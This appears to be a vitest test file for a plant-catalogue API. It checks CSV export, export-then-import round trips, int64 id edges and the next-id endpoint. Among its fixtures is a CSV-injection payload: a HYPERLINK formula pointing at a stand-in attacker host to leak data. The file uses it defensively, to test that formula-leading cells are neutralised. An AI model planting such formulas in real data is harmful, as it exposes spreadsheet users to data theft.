// GET /plants/export, its neutralised formula cells, the round trip export → import into an empty
// store → export, and GET /plants/next-id (which needs a store of known contents: the empty one).
import { randomBytes } from 'node:crypto';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { parsePlantsCsv } from '../../lib/csv/plants-csv';
import { stringifyJson } from '../../lib/shared/json';
import { engine } from '../../lib/db/engine';
import { BATCH_MAX_ITEMS } from '../../lib/schemas/limits';
import { expectError, newToken, request, sharedServer, uniqueId } from '../support/api';
import { tokenIn } from '../support/database';
import { test as withOwnServer } from '../support/fixtures';

let token: string;
const marker = `xq${randomBytes(4).toString('hex')}`;

// The empty store: the production server on a database of the file's own, with a token there.
const test = withOwnServer.extend('empty', { scope: 'file' }, async ({ ownServer, ownDatabase }) =>
  Object.assign(ownServer, { token: (await tokenIn(ownDatabase.url, 'round trip')).token }),
);

// Names that CSV must quote or keep exactly, names a spreadsheet would take for a formula, and
// the int64 extremes (each test run has its own).
const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","click")';
const AWKWARD: { id: bigint; name: string; tag?: string }[] = [
  { id: uniqueId(), name: `Plain ${marker}`, tag: 'plain' },
  { id: uniqueId(), name: `Comma, in name ${marker}` },
  { id: uniqueId(), name: `Quote "double" ${marker}`, tag: 'quo"te' },
  { id: uniqueId(), name: `'Pink Princess' ${marker}`, tag: 'aroid' },
  { id: uniqueId(), name: `=SUM(A1) ${marker}` },
  { id: uniqueId(), name: `Straße ΦΙΚΟΣ 榕树 🌿 ${marker}`, tag: 'ünïcode' },
  { id: -uniqueId(), name: `Negative ${marker}`, tag: 'plain' },
  { id: uniqueId(), name: `${HYPERLINK} ${marker}`, tag: '=1+1' },
  { id: uniqueId(), name: `+SUM(A1) ${marker}`, tag: '+plus' },
  { id: uniqueId(), name: `-2+3 ${marker}`, tag: '-minus' },
  { id: uniqueId(), name: `@SUM(A1) ${marker}`, tag: '@at' },
  { id: -uniqueId(), name: `'=x ${marker}`, tag: "''+y" },
];
const PLANTS_UNDER_MARKER = AWKWARD.length + 1500;

beforeAll(async () => {
  token = await newToken('export tests');
  // More plants than the export's page (1000), so the stream spans several pages.
  const filler = Array.from({ length: 1500 }, (_, index) => ({ id: uniqueId(), name: `Filler ${index} ${marker}`, tag: 'filler' }));
  for (const items of [AWKWARD, filler.slice(0, 1000), filler.slice(1000)]) {
    const response = await request(sharedServer(), '/plants/batch', { method: 'POST', token, body: stringifyJson(items) });
    expect(response.status, response.text).toBe(200);
  }
});

const exportOf = (query: string, on?: { url: string; token: string }) =>
  on
    ? request(on, `/plants/export${query}`, { headers: { authorization: `Bearer ${on.token}` } })
    : request(sharedServer(), `/plants/export${query}`, { token });

describe('GET /plants/export', () => {
  it('answers text/csv with a header row, a row per plant, oldest first, quoting where CSV needs it', async () => {
    const response = await exportOf(`?q=${marker}&tag=plain`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="plants.csv"');
    const lines = response.text.split('\r\n');
    expect(lines[0]).toBe('id,name,tag');
    expect(lines).toHaveLength(4);
    expect(lines[1]).toMatch(new RegExp(`^\\d+,Plain ${marker},plain$`));
    // An id is written digit for digit, negative or not: it is never a formula.
    expect(lines[2]).toMatch(new RegExp(`^-\\d+,Negative ${marker},plain$`));
    expect(lines[3]).toBe('');

    const quoted = await exportOf(`?q=${encodeURIComponent(`"double" ${marker}`)}`);
    expect(quoted.text.split('\r\n')[1]).toMatch(new RegExp(`^\\d+,"Quote ""double"" ${marker}","quo""te"$`));
    const comma = await exportOf(`?q=${encodeURIComponent(`comma, IN`)}`);
    expect(comma.text).toContain(`,"Comma, in name ${marker}",\r\n`);
  });

  // OWASP "CSV injection": a name or tag a spreadsheet would run as a formula goes out with a ' in front.
  it("puts a ' in front of every name and tag that starts with = + - @ (so a spreadsheet shows it as text)", async () => {
    const { text } = await exportOf(`?q=${marker}`);
    const line = (plant: (typeof AWKWARD)[number]) => text.split('\r\n').find((row) => row.includes(plant.name.replaceAll('"', '""')));
    const [, , , pink, sum, , negative, hyperlink, plus, minus, at, quoted] = AWKWARD;
    expect(line(hyperlink)).toBe(`${hyperlink.id},"'=HYPERLINK(""http://attacker.example/?leak"",""click"") ${marker}","'=1+1"`);
    expect(line(sum)).toBe(`${sum.id},"'=SUM(A1) ${marker}",`);
    expect(line(plus)).toBe(`${plus.id},"'+SUM(A1) ${marker}","'+plus"`);
    expect(line(minus)).toBe(`${minus.id},"'-2+3 ${marker}","'-minus"`);
    expect(line(at)).toBe(`${at.id},"'@SUM(A1) ${marker}","'@at"`);
    // A name that itself starts with ' and a formula character gets one more, so the import can take one off.
    expect(line(quoted)).toBe(`${quoted.id},"''=x ${marker}","'''+y"`);
    expect(line(negative)).toBe(`${negative.id},Negative ${marker},plain`);
    // A ' before anything else stays as it is.
    expect(line(pink)).toBe(`${pink.id},'Pink Princess' ${marker},aroid`);
    // And no name or tag of the whole export starts with a formula character; every id is an integer.
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows).toHaveLength(PLANTS_UNDER_MARKER + 1);
    expect(rows.flatMap(([, name, tag]) => [name, tag]).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(rows.slice(1).filter(([id]) => !/^-?\d+$/.test(id))).toEqual([]);
  });

  it("puts a ' in front of a cell that starts with a tab or a carriage return, in a database written behind the API's back", async () => {
    // Names and tags refuse control characters, so no plant the API stored starts with either;
    // one another program wrote into the database still goes out neutralised.
    const other = `ctl${randomBytes(4).toString('hex')}`;
    const plants = [
      { id: uniqueId(), name: `\t=1+1 ${other}`, tag: '\r=2+2' },
      { id: uniqueId(), name: `\r@SUM(A1) ${other}`, tag: '\t-3' },
    ];
    const unrecorded = () => ({ audit: [], events: [] });
    await engine().plants.insertMany(plants, unrecorded);
    try {
      const { text } = await exportOf(`?q=${other}`);
      expect(text).toBe(
        'id,name,tag\r\n' + `${plants[0].id},"'\t=1+1 ${other}","'\r=2+2"\r\n` + `${plants[1].id},"'\r@SUM(A1) ${other}","'\t-3"\r\n`,
      );
      const parsed = parsePlantsCsv(text);
      if (!parsed.ok) throw new Error(parsed.message);
      expect(parsed.records.map((record) => record.values)).toEqual(plants.map(({ id, name, tag }) => ({ id: id.toString(), name, tag })));
    } finally {
      // Gone again, so no other test meets a name the API would refuse.
      for (const { id } of plants) await engine().plants.delete(id, () => {}, unrecorded);
    }
  });

  it('writes the header alone when nothing matches, and refuses bad filters', async () => {
    expect((await exportOf(`?q=${marker}&tag=none-${marker}`)).text).toBe('id,name,tag\r\n');
    expectError(await exportOf(`?q=${'x'.repeat(201)}`), 400, 40003, 'q: must be at most 200 characters');
    expectError(await request(sharedServer(), '/plants/export'), 401, 40101);
    const post = await request(sharedServer(), '/plants/export', { method: 'POST', token, body: '{}' });
    expectError(post, 405, 40501);
    expect(post.headers.get('allow')).toBe('GET, HEAD, OPTIONS');
  });
});

describe('export, then import into an empty store', () => {
  test('offers id 1 in the empty store', async ({ empty }) => {
    const response = await request(empty, '/plants/next-id', { headers: { authorization: `Bearer ${empty.token}` } });
    expect(response.status).toBe(200);
    expect(response.text).toBe('{"id":1}');
  });

  test('gives the same catalogue, in the same order', async ({ empty }) => {
    const original = await exportOf(`?q=${marker}`);
    const parsed = parsePlantsCsv(original.text);
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.records).toHaveLength(PLANTS_UNDER_MARKER);
    expect(parsed.records.filter((record) => Object.keys(record.problems).length > 0)).toEqual([]);

    // The same plants, oldest first: the formula-like names, tags and negative ids without the ' the export put in front.
    const plants = parsed.records.map((record) => record.plant!);
    expect(plants.slice(0, AWKWARD.length)).toEqual(AWKWARD);
    // As the import page sends them: chunks of at most BATCH_MAX_ITEMS, in file order.
    for (let start = 0; start < plants.length; start += BATCH_MAX_ITEMS) {
      const body = stringifyJson(plants.slice(start, start + BATCH_MAX_ITEMS).map(({ id, name, tag }) => ({ id, name, tag })));
      const imported = await request(empty, '/plants/batch', {
        method: 'POST',
        headers: { authorization: `Bearer ${empty.token}`, 'content-type': 'application/json' },
        body,
      });
      expect(imported.status).toBe(200);
      expect(imported.text).not.toMatch(/"status":(400|409)/);
    }

    const copy = await exportOf('', empty);
    expect(copy.text).toBe(original.text);
    // Newest first lists the same too: the same ids, names and tags, page by page.
    const [originalList, copyList] = await Promise.all([
      request(sharedServer(), `/plants?q=${marker}&limit=100`, { token }),
      request(empty, '/plants?limit=100', { headers: { authorization: `Bearer ${empty.token}` } }),
    ]);
    expect(copyList.text).toBe(originalList.text);
  });

  test('then offers one more than the highest id, and the lowest free one once int64 max is taken', async ({ empty }) => {
    const headers = { authorization: `Bearer ${empty.token}` };
    const listed = parsePlantsCsv((await request(empty, '/plants/export', { headers })).text);
    if (!listed.ok) throw new Error(listed.message);
    const highest = listed.records.map((record) => record.plant!.id).reduce((a, b) => (b > a ? b : a));
    expect((await request(empty, '/plants/next-id', { headers })).text).toBe(`{"id":${highest + 1n}}`);

    const create = (id: bigint) =>
      request(empty, '/plants', { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: `{"id": ${id}, "name": "Edge"}` });
    expect((await create(9223372036854775807n)).status).toBe(200);
    expect((await request(empty, '/plants/next-id', { headers })).text).toBe('{"id":1}');
    for (const id of [1n, 2n, 4n]) expect((await create(id)).status).toBe(200);
    expect((await request(empty, '/plants/next-id', { headers })).text).toBe('{"id":3}');
  });

  test('writes the int64 extremes digit for digit, and reads them back exactly', async ({ empty }) => {
    const headers = { authorization: `Bearer ${empty.token}` };
    // Oldest first, as the export lists them (the test before stored the first). Names and tags
    // that look like ids are text: they go out neutralised.
    const extremes = [
      { id: 9223372036854775807n, name: 'Edge' },
      { id: -9223372036854775808n, name: '-5', tag: '-9223372036854775808' },
    ];
    const stored = await request(empty, '/plants/batch', {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: stringifyJson(extremes),
    });
    expect(stored.status).toBe(200);
    const { text } = await request(empty, '/plants/export', { headers });
    const lines = text.split('\r\n');
    expect(lines).toContain(`-9223372036854775808,"'-5","'-9223372036854775808"`);
    expect(lines).toContain('9223372036854775807,Edge,');
    const parsed = parsePlantsCsv(text);
    if (!parsed.ok) throw new Error(parsed.message);
    const plants = parsed.records.map((record) => record.plant!).filter(({ id }) => id === extremes[0].id || id === extremes[1].id);
    expect(plants).toEqual(extremes);
    // Sent back, each is the plant the store holds, to the byte: nothing is created or refused.
    const again = await request(empty, '/plants/batch', {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body: stringifyJson(plants.map(({ id, name, tag }) => ({ id, name, tag }))),
    });
    expect(again.status).toBe(200);
    expect(again.text.match(/"status":200,"created":false/g)).toHaveLength(2);
  });
});
